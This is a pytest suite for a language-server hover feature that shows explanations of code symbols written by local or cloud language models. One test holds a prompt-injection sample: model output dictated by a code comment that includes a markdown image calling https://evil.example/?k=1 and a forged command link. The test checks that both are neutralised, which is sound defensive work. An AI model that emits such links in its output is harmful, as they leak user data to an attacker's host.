"""Explanations where one points: known ones at once, local ones in time, and never for money."""

from collections.abc import Iterator
from types import SimpleNamespace
from typing import Any, cast

import pytest
from lsprotocol import types

from hybrid_lsp.frontends.lsp.abilities import abilities_of
from hybrid_lsp.frontends.lsp.hover import Hovers
from tests.lsp.asker import CODE, EMACS, FULL, Asker

SAYS = {"small": [{"say": ["It adds the prices."]}]}


@pytest.fixture(scope="module")
def session() -> Iterator[Asker]:
    """One editor that can everything, and runs the commands that links name."""
    with Asker() as client:
        client.initialize(capabilities=FULL, initializationOptions={"commandLinks": True})
        yield client


@pytest.fixture
def asker(session: Asker) -> Asker:
    """The same editor, with a fresh document."""
    session.begin(SAYS)
    return session


def test_a_local_model_explains_the_symbol_and_is_remembered(asker: Asker) -> None:
    """The first look asks, the next ones, anywhere in the symbol, do not; the text, where it came from, and the range."""
    shown = asker.hover()
    assert shown["contents"]["kind"] == "markdown"
    assert shown["contents"]["value"].startswith("It adds the prices.\n\n---\n\nsmall (local, free).")
    assert (shown["range"]["start"]["line"], shown["range"]["end"]["line"]) == (3, 7)
    assert asker.hover(3) == asker.hover(7) == shown
    state = asker.state()
    assert state["asked"] == ["small"]
    assert "total" in state["questions"][0]


def test_changed_text_is_explained_anew(asker: Asker) -> None:
    """Elsewhere in the file it does not matter; in the symbol itself it does."""
    asker.hover()
    asker.change(f"# new\n{CODE}")
    asker.hover(6)
    assert asker.state()["asked"] == ["small"]
    asker.change(CODE.replace("result = 0", "result = 1"))
    asker.hover()
    assert asker.state()["asked"] == ["small", "small"]


def test_what_takes_too_long_goes_on_and_is_there_at_the_next_look(asker: Asker) -> None:
    """After the deadline a line says how to ask; the model is not asked twice, and its words are not lost."""
    asker.begin({"small": [{"say": ["It adds", " the prices."], "gate": True}], "hover_s": 0.05})
    for _ in range(2):
        assert asker.hover()["contents"]["value"] == (
            "small is still writing an explanation: look again in a moment, or choose the code action Explain."
        )
    asker.notify("test/go", {})
    asker.until(rows=[["local", "done"]])
    assert asker.hover()["contents"]["value"].startswith("It adds the prices.")
    assert asker.state()["asked"] == ["small"]


def test_pointing_elsewhere_gives_up_what_is_under_way(asker: Asker) -> None:
    """One explanation at a time: the model is free for what one looks at now."""
    asker.begin({"small": [{"say": ["It", " adds."], "gate": True}, {"say": ["It prints."]}], "hover_s": 0.05})
    assert "still writing" in asker.hover()["contents"]["value"]
    shown = asker.hover(10)
    asker.until(closed=2)
    assert "It prints." in (shown["contents"]["value"] + asker.hover(10)["contents"]["value"])
    assert ["local", "cancelled"] in asker.state()["rows"]


@pytest.mark.parametrize("script", [{"local": False}, {"small": [{"offline": True}]}])
def test_where_nobody_here_can_answer_a_line_says_who_would_for_how_much(
    asker: Asker, script: dict[str, object]
) -> None:
    """No local model, or one that is away: the cloud is never asked by pointing, whatever is allowed, but can be."""
    asker.begin({**script, "policy": "all", "big": [{"say": ["For money."]}]})
    for _ in range(2):
        shown = asker.hover()
        assert shown is None or shown["contents"]["value"].startswith("[Explain (big · ≤ $0.0")
    assert (shown is None) == ("small" in script)
    state = asker.state()
    assert "big" not in state["asked"]
    assert len(state["asked"]) <= 1
    assert state["spent"] == "0"


def test_nothing_is_shown_where_nobody_would_answer(asker: Asker) -> None:
    """Without any model there is nothing to say, and nothing is said."""
    asker.begin({"local": False, "cloud": False})
    assert asker.hover() is None


def test_blank_lines_and_closed_documents_say_nothing(asker: Asker) -> None:
    """There is nothing to explain."""
    assert asker.hover(1) is None
    asker.uri = "file:///w/none.py"
    assert asker.hover() is None
    assert asker.state()["asked"] == []


def test_links_ask_anew_ask_the_better_model_and_forget(asker: Asker) -> None:
    """Each link is a command of ours with where, and no code, in it; the better model's has its price."""
    text = asker.hover()["contents"]["value"]
    links = text.rsplit("\n\n", 1)[1]
    assert links.count("](command:hybrid-lsp.") == 3
    assert links.startswith("[Explain anew](")
    assert "Ask the better model (big · ≤ $0.0" in links
    assert "command:hybrid-lsp.do?%5B%7B%22uri" in links
    assert "[Forget this](command:hybrid-lsp.clearCache?" in links
    assert "prices" not in links

    where = {"uri": asker.uri, "range": asker.at(3, 7)}
    assert [asker.command("clearCache", where)["result"]["forgotten"] for _ in range(2)] == [1, 0]


def test_what_a_model_was_told_to_write_does_nothing(asker: Asker) -> None:
    """A comment in the code may dictate the words: no picture leads out, and the only commands are our own links below."""
    words = "It adds.\n\n![x](https://evil.example/?k=1) [Read on](command:hybrid-lsp.do?%5B%5D)"
    asker.begin({"small": [{"say": [words]}]})
    explained, _, links = asker.hover()["contents"]["value"].partition("\n---\n")
    assert explained.startswith("It adds.\n\n! [x]")
    assert "](command:" not in explained
    assert links.count("](command:hybrid-lsp.") == 3
    assert "](command:" not in asker.command("do", asker.do("explain"))["result"]["markdown"]


def test_what_is_forgotten_is_asked_anew(asker: Asker) -> None:
    """Not the same words from memory again; and once, not at every look."""
    asker.begin({"small": [{"say": ["It adds."]}, {"say": ["It sums up."]}]})
    asker.hover()
    asker.command("clearCache", {"uri": asker.uri, "range": asker.at(3, 7)})
    assert [asker.hover()["contents"]["value"].split("\n")[0] for _ in range(2)] == ["It sums up."] * 2
    assert asker.state()["asked"] == ["small", "small"]


def test_an_explanation_that_was_asked_for_is_shown_where_one_points(asker: Asker) -> None:
    """What the better model wrote is there at once, with what it cost."""
    asker.begin({**SAYS, "big": [{"say": ["It folds the prices."]}]})
    asker.command("do", asker.do("explain", wish="cloud"))
    assert asker.hover()["contents"]["value"].startswith("It folds the prices.\n\n---\n\nbig (cloud, $0.0045).")
    assert asker.state()["asked"] == ["big"]


def test_cancelling_a_look_leaves_the_model_at_work(asker: Asker) -> None:
    """An editor cancels with each move of the mouse; the answer is -32800, and the explanation is there later."""
    asker.begin({"small": [{"say": ["It adds", " up."], "gate": True}]})
    params = {"textDocument": {"uri": asker.uri}, "position": {"line": 5, "character": 4}}
    asked = asker.start("textDocument/hover", params)
    asker.until(asked=["small"])
    asker.notify("$/cancelRequest", {"id": asked})
    assert asker.answer(asked)["error"]["code"] == -32800
    asker.notify("test/go", {})
    assert asker.hover()["contents"]["value"].startswith("It adds up.")
    assert asker.state()["asked"] == ["small"]


def test_plain_words_for_plain_editors() -> None:
    """Without Markdown and links it is plain text, with the way on in words, where there is one."""
    with Asker() as client:
        client.initialize(capabilities=EMACS)
        client.begin(SAYS)
        contents = client.hover()["contents"]
        assert contents["kind"] == "plaintext"
        assert "command:" not in contents["value"]
        assert "The code action Explain can ask the better model (big · ≤ $0.0" in contents["value"]
        client.begin({**SAYS, "cloud": False})
        assert client.hover()["contents"]["value"] == "It adds the prices.\n\n---\n\nsmall (local, free)."
        client.begin({"local": False})
        assert client.hover()["contents"]["value"].startswith("The code action Explain asks big · ≤ $0.0")


@pytest.mark.parametrize(
    ("client", "wish_s", "wait_s"),
    [
        ("Visual Studio Code", None, 1.5), (None, None, 1.5), ("Neovim", None, 0.3), ("helix", None, 0.3),
        ("Neovim", 2.0, 2.0), ("VSCodium", 0.0, 0.0),
    ],
)  # fmt: skip
def test_who_shows_nothing_before_all_have_answered_is_not_kept_waiting(
    client: str | None, wish_s: float | None, wait_s: float
) -> None:
    """Neovim and Helix keep other servers' answers back meanwhile, so a look is short there; a person's word goes first."""
    info = types.ClientInfo(name=client) if client else None
    editor = SimpleNamespace(abilities=abilities_of(types.ClientCapabilities(), info))
    hovers = Hovers(cast(Any, editor), cast(Any, None), cast(Any, None), wait_s=wish_s)
    assert hovers.patience_s == wait_s


def test_who_wants_no_explanations_gets_none() -> None:
    """By the editor's options it is silent, by ours it is not even offered."""
    with Asker() as client:
        client.initialize(capabilities=FULL, initializationOptions={"hover": False})
        client.begin(SAYS)
        assert client.hover() is None
        assert client.state()["asked"] == []
    with Asker({"hover": False}) as client:
        assert "hoverProvider" not in client.initialize(capabilities=FULL)["result"]["capabilities"]
